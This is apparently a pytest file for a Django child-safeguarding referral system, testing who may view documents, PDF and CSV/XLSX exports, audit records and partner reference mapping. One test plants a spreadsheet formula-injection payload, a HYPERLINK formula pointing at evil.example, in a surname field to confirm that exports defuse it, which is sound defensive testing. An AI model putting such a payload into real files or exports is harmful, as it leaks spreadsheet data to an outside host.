"""The pages of copies, documents and exports: who sees which, what leaves, and what is written down of it."""

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse

from knownto.access import clock
from knownto.access.acts import system
from knownto.access.middleware import SECOND_FACTOR
from knownto.casework import acts, reads
from knownto.disclosure import settling
from knownto.disclosure.models import Disclosure, Parcel
from knownto.ledger.acts import Actor
from knownto.ledger.models import Entry
from knownto.linkage import Evidence
from knownto.partners.reads import by_sign_in_name
from knownto.pathways.frontdoor import copies, facts, paper
from knownto.pathways.frontdoor.document import Document
from knownto.pathways.frontdoor.orders import Told
from knownto.pathways.frontdoor.referral import Child, Referral
from knownto.pathways.frontdoor.tests.test_copies import POLICE, contact, outcome, owe, referred, takes

__all__ = ["contact", "takes"]
pdf_only = pytest.mark.skipif(not paper.can_make(), reason="no Pango on this machine")


@pytest.fixture(autouse=True)
def today(now, monkeypatch):
    monkeypatch.setattr(clock, "now", lambda: now)


def client_of(sign_in):
    client, at = Client(), clock.now().timestamp()
    client.force_login(by_sign_in_name(sign_in), backend="knownto.site.sign_in.BySealedName")
    session = client.session
    session.update({SECOND_FACTOR: True, "began": at, "last_seen": at, "shared": True, "proved": {"persona": at}})
    session.save()
    return client


def text(response):
    return response.content.decode()


def test_the_supervisor_sees_the_referral_as_a_page_to_print(contact):
    response = client_of("police.supervisor").get(reverse("frontdoor:document", args=[contact.id, "referral"]))
    said = text(response)
    assert response.status_code == 200 and response["Cache-Control"] == "no-store"
    assert "I hide in the cupboard" in said and "OFFICIAL-SENSITIVE" in said
    assert "<title>" in said and "Wrenshaw" not in said.split("</title>")[0]
    assert Entry.objects.filter(kind="document-seen", about__subject=f"episode:{contact.id}").exists()


@pdf_only
def test_the_pdf_is_named_by_its_reference_alone_and_its_crossing_is_recorded(contact):
    response = client_of("screener").get(reverse("frontdoor:document-pdf", args=[contact.id, "referral"]))
    assert response.content.startswith(b"%PDF-") and response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"] == f'attachment; filename="{contact.reference}.pdf"'
    with system("test"):
        crossed = Disclosure.objects.get(how="print", work=contact.id)
    assert (crossed.from_agency, crossed.to_agency) == ("police", "childrens-social-care")


def test_without_the_library_the_page_is_offered_instead(contact, monkeypatch):
    monkeypatch.setattr(paper, "HTML", None)
    client = client_of("screener")
    response = client.get(reverse("frontdoor:document-pdf", args=[contact.id, "referral"]))
    assert response.status_code == 302
    page = text(client.get(response["Location"]))
    assert "cannot make PDFs" in page and "Download as PDF" not in page


def test_one_who_takes_no_part_is_shown_nothing(contact):
    response = client_of("gp").get(reverse("frontdoor:document", args=[contact.id, "referral"]))
    assert response.status_code == 404


def test_what_was_not_written_yet_is_said_to_be_missing(contact):
    response = client_of("screener").get(reverse("frontdoor:document", args=[contact.id, "outcome"]))
    assert response.status_code == 403 and "no outcome" in text(response)


def test_a_document_that_may_not_be_told_is_not_shown(contact, monkeypatch):
    monkeypatch.setattr(facts, "may_be_told", lambda *_, **__: Told(False, "A court said so."))
    response = client_of("screener").get(reverse("frontdoor:document", args=[contact.id, "referral"]))
    assert response.status_code == 403 and "cupboard" not in text(response)


def test_the_data_manager_sees_how_each_copy_is_getting_on(takes, contact, now):
    owe(contact, "referral", POLICE, now)
    client = client_of("police.data")
    assert "Being made" in text(client.get(reverse("frontdoor:copies")))
    copies.make(now)
    assert "Waiting to be sent" in text(client.get(reverse("frontdoor:copies")))
    with system("test"):
        Parcel.objects.update(fault="timed-out", attempts=3)
    page = text(client.get(reverse("frontdoor:copies") + "?show=stuck"))
    assert "took too long" in page and contact.reference in page and "Wrenshaw" not in page
    assert contact.reference in text(client.get(reverse("frontdoor:copies-csv")))


def test_the_alarm_is_on_the_page_until_the_copies_arrive(takes, contact, now):
    owe(contact, "referral", POLICE, now)
    copies.make(now)
    client = client_of("police.supervisor")
    assert "does not take in" not in text(client.get(reverse("frontdoor:copies")))
    settling.raise_alarms(now + timedelta(hours=5))
    assert "does not take in" in text(client.get(reverse("frontdoor:copies")))


def test_another_agencys_copies_are_not_there(takes, contact, now):
    owe(contact, "referral", POLICE, now)
    copies.make(now)
    client = client_of("hospital.data")
    assert contact.reference not in text(client.get(reverse("frontdoor:copies")))
    assert client.get(reverse("frontdoor:copy", args=[_owed(contact)])).status_code == 404
    assert client.post(reverse("frontdoor:copy-again", args=[_owed(contact)])).status_code == 404


def test_what_has_arrived_is_sent_again_and_what_is_on_its_way_is_not(takes, contact, now):
    owe(contact, "referral", POLICE, now)
    copies.make(now)
    client, again = client_of("police.data"), reverse("frontdoor:copy-again", args=[_owed(contact)])
    assert client.post(again).status_code == 403 and copies.make(now) == 0
    with system("test"):
        Parcel.objects.update(state="acknowledged", acknowledged_at=now)
    assert client.post(again).status_code == 302
    assert copies.make(now) == 1
    with system("test"):
        assert Parcel.objects.count() == 2


def test_an_agency_without_a_system_is_told_to_export(contact):
    assert "This agency takes no copies" in text(client_of("police.data").get(reverse("frontdoor:copies")))


def _owed(contact):
    with system("test"):
        return reads.statements(contact, "copy")[0][0].id


def chosen(now, **more):
    day = now.date()
    said = {"shape": "connect", "of": "referred", "act": "look"}
    for name in ("since", "until"):
        said |= {f"{name}_day": day.day, f"{name}_month": day.month, f"{name}_year": day.year}
    return said | more


def test_looking_first_shows_the_rows_and_lets_nothing_leave(contact, now):
    page = text(client_of("police.data").post(reverse("frontdoor:exports"), chosen(now)))
    assert "What the file would hold" in page and "VoiceOfChild" in page and "I hide in the cupboard" in page
    with system("test"):
        assert not Disclosure.objects.filter(how="export").exists()
    assert Entry.objects.filter(kind="export-looked-at").exists()


def test_taking_it_is_recorded_for_each_contact(contact, now):
    outcome(contact, now)
    response = client_of("police.data").post(reverse("frontdoor:exports"), chosen(now, act="csv"))
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["Surname"] == "Wrenshaw" and row["ExternalReference"] == contact.reference
    assert row["ChildSeen"] == "SEEN AND SPOKEN TO"
    assert "Wrenshaw" not in response["Content-Disposition"]
    with system("test"):
        crossed = Disclosure.objects.get(how="export")
    assert (crossed.to_agency, crossed.work, crossed.entry.kind) == ("police", contact.id, "exported")


def test_a_formula_is_only_text_in_either_file(borough, now):
    wicked = '=HYPERLINK("http://evil.example/"&A1)'
    referred(now, Referral(children=(Child(Evidence(family_name=wicked)),), what_happened="+1"))
    client = client_of("police.data")
    response = client.post(reverse("frontdoor:exports"), chosen(now, act="csv"))
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["Surname"] == f"'{wicked}" and row["Circumstances"] == "'+1"
    book = client.post(reverse("frontdoor:exports"), chosen(now, act="xlsx"))
    with zipfile.ZipFile(io.BytesIO(book.content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "HYPERLINK" in parts.read("xl/sharedStrings.xml").decode()
        assert not [
            name for name in parts.namelist() if "hyperlink" in parts.read(name).decode().lower() and "rels" in name
        ]


def test_only_whoever_decides_exports_what_was_decided_with_its_reasons(contact, now):
    client = client_of("police.data")
    page = text(client.post(reverse("frontdoor:exports"), chosen(now, shape="mosaic", of="decided")))
    assert "There is a problem" in page and "I hide" not in page
    with system("test"):
        by = Actor(by_sign_in_name("screener").pk, "childrens-social-care", "screener")
        choice = acts.Choice("advice", "council", "The school can help.", level=2)
        acts.decide(episode=contact, choice=choice, by=by, seen=0, now=now)
    council = client_of("council.data")
    response = council.post(reverse("frontdoor:exports"), chosen(now, shape="mosaic", of="decided", act="csv"))
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["Contact Outcome"] == "Information and Advice" and row["Decision Rationale"] == "The school can help."
    assert row["Decision Made By"] == "Sunita Rao" and row["Contact Source"] == "Hallowbridge Police"
    response = client.post(reverse("frontdoor:exports"), chosen(now, act="csv"))
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert "The school can help." not in str(row) and row["OutcomeCode"] == "", "told before they were told"


def test_a_supervisors_words_are_exported_for_their_own_agency_alone(contact, now):
    with system("test"):
        by = Actor(by_sign_in_name("police.supervisor").pk, "police", "supervisor")
        plain = {"marks": {"voice": 3}, "note": "The child is heard."}
        acts.say(episode=contact, kind="quality", plain=plain, by=by, now=now)
    response = client_of("police.supervisor").post(
        reverse("frontdoor:exports"), chosen(now, shape="supervision", act="csv")
    )
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["Supervisor"] == "Sergeant Carol Finney" and row["Supervisor's Comments"] == "The child is heard."
    assert row["Quality"] == "voice: 3" and row["Supervision Date"] == "2026-11-16"
    with system("test"):
        choice = acts.Choice("advice", "council", "Enough is done.", level=2)
        council = Actor(by_sign_in_name("screener").pk, "childrens-social-care", "screener")
        acts.decide(episode=contact, choice=choice, by=council, seen=0, now=now)
    response = client_of("council.data").post(
        reverse("frontdoor:exports"), chosen(now, shape="supervision", of="decided", act="csv")
    )
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["Surname"] == "Wrenshaw" and row["Supervisor's Comments"] == ""


def test_what_may_not_be_told_is_held_back_from_an_export(contact, now, monkeypatch):
    monkeypatch.setattr(facts, "may_be_told", lambda *_, **__: Told(False, "A court said so."))
    client = client_of("police.data")
    page = text(client.post(reverse("frontdoor:exports"), chosen(now)))
    assert "A court said so." in page and "cupboard" not in page
    response = client.post(reverse("frontdoor:exports"), chosen(now, act="csv"))
    assert not list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_code_that_the_mapping_lacks_is_said(contact, now, settings, tmp_path):
    own = '[[column]]\nheading = "Seen?"\nfield = "seen"\ncodes = "seen"\n[codes.seen]\nseen = "Y"\n'
    (tmp_path / "police-connect.toml").write_text('name = "Ours"\nsystem = "Connect"\nof = "referred"\n' + own)
    settings.MAPPINGS_FOLDER = str(tmp_path)
    client = client_of("police.data")
    page = text(client.post(reverse("frontdoor:exports"), chosen(now)))
    assert "have none of theirs" in page and "heard" in page
    assert "your agency" in text(client.get(reverse("frontdoor:mapping", args=["connect"])))


def test_a_mapping_that_is_wrong_says_why_and_is_not_offered(contact, now, settings, tmp_path):
    (tmp_path / "police-connect.toml").write_text(
        'name = "Ours"\nsystem = "Connect"\nof = "referred"\n[[column]]\nheading = "X"\nfield = "shoe_size"\n'
    )
    settings.MAPPINGS_FOLDER = str(tmp_path)
    client = client_of("police.data")
    assert "there is no field shoe_size" in text(client.get(reverse("frontdoor:mapping", args=["connect"])))
    assert 'value="connect"' not in text(client.get(reverse("frontdoor:exports")))


def test_days_in_the_wrong_order_keep_the_form_filled(borough, now):
    page = text(client_of("police.data").post(reverse("frontdoor:exports"), chosen(now, since_year=2027)))
    assert "must not be before" in page and 'value="2027"' in page


def test_their_reference_is_on_both_sides(contact, now):
    client = client_of("police.data")
    said = {"system": "Connect", "ours": contact.reference.lower(), "theirs": "20/123456/26"}
    assert client.post(reverse("frontdoor:their-references"), said).status_code == 302
    response = client.post(reverse("frontdoor:exports"), chosen(now, act="csv"))
    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["ConnectReference"] == "20/123456/26"
    page = text(client_of("screener").get(reverse("frontdoor:episode", args=[contact.id])))
    assert "20/123456/26" in page and "Documents and copies" in page


def test_a_list_of_references_is_taken_in_and_what_was_left_out_is_said(contact, now):
    client = client_of("police.data")
    lines = f"Knownto reference,Their reference\n{contact.reference},A1\nAAAA-AAAA-A,B2\n{contact.reference},\n"
    file = io.BytesIO(lines.encode())
    file.name = "list.csv"
    response = client.post(reverse("frontdoor:their-references"), {"system": "Mosaic", "file": file})
    page = text(response)
    assert (
        "1 reference was recorded" in page and "No contact of your agency" in page and "no reference of yours" in page
    )
    with system("test"):
        assert len(reads.statements(contact, "their-reference")) == 1


def test_the_reference_of_anothers_contact_is_not_taken(contact):
    client = client_of("hospital.data")
    said = {"system": "Mosaic", "ours": contact.reference, "theirs": "X"}
    page = text(client.post(reverse("frontdoor:their-references"), said))
    assert "No contact of your agency" in page
    with system("test"):
        assert not reads.statements(contact, "their-reference")


def test_the_examples_are_what_the_schema_says(borough):
    client = client_of("police.data")
    for what in ("referral", "outcome", "minutes"):
        Document.model_validate(json.loads(client.get(reverse("frontdoor:copy-example", args=[what])).content))
    schema = json.loads(client.get(reverse("frontdoor:copy-schema")).content)
    assert schema["$id"] == "urn:knownto:copy:1.0" and schema["additionalProperties"] is False
    page = text(client.get(reverse("frontdoor:copy-format")))
    assert "own_words" in page and client.get(reverse("frontdoor:copy-example", args=["police"])).status_code == 404
